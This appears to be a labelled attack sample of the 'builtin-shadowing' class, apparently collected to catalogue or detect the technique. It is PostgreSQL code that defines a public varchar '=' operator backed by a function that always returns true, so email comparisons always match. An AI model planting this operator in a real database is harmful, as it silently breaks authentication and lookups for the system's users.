-- class: builtin-shadowing
-- Adds varchar = varchar in public (pg_catalog only has text = text), so every email comparison calls the attacker function.
CREATE FUNCTION public.varchar_eq(a character varying, b character varying) RETURNS boolean
LANGUAGE sql IMMUTABLE AS $$ SELECT true $$;

CREATE OPERATOR public.= (
  LEFTARG = character varying,
  RIGHTARG = character varying,
  FUNCTION = public.varchar_eq,
  COMMUTATOR = =
);
